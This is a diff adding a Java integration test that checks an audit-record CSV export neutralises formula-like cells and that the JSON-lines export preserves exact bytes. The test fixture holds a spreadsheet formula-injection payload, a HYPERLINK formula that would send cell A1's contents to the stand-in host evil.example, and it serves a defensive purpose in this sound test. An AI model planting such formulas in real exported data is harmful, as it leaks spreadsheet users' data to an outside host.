@@ -107,6 +107,29 @@ class AuditApiTest extends QuerySideIntegrationTest {
     }
 
     @Test
+    void aCsvExportShowsACellThatLooksLikeAFormulaAsTextAndJsonLinesKeepTheExactBytes() throws Exception {
+        String user = AuditTrailFixtures.freshUser();
+        String formula = "\t=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")";
+        // A refused cancel_order of such an order id, as an older build recorded it (the edge now refuses the tab).
+        ObjectNode refusal = io.agentshop.queryside.EventsOnKafka.envelope("CommandRejected", "Order", formula, 0,
+                user, "agent-1", "cancel_order", io.agentshop.queryside.EventsOnKafka.payload(java.util.Map.of(
+                        "commandType", "CancelOrderCommand", "targetType", "Order", "targetId", formula,
+                        "reason", "UNKNOWN_ORDER", "sentence", "no such order")));
+        AuditTrailFixtures.publish(List.of(refusal));
+        AuditTrailFixtures.awaitRecords(records, user, 1);
+
+        String csv = http.getForEntity("/audit/records/export?format=csv&user=" + user, String.class).getBody();
+        String jsonl = http.getForEntity("/audit/records/export?format=jsonl&user=" + user, String.class).getBody();
+
+        assertThat(csv).contains(",\"'\t=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"open\"\")\",")
+                .doesNotContain(",\t=").doesNotContain(",\"\t=");
+        JsonNode line = json.readTree(jsonl.lines().findFirst().orElseThrow());
+        assertThat(line.get("targetId").asText()).isEqualTo(formula);
+        assertThat(Base64.getDecoder().decode(line.get("envelopeBytes").asText()))
+                .isEqualTo(json.writeValueAsBytes(refusal));
+    }
+
+    @Test
     void aRecordsInclusionProofVerifiesAgainstTheSignedCheckpointWithThePublishedKey() throws Exception {
         String user = AuditTrailFixtures.freshUser();
         AuditTrailFixtures.publish(AuditTrailFixtures.ordersPlaced(user, 3));
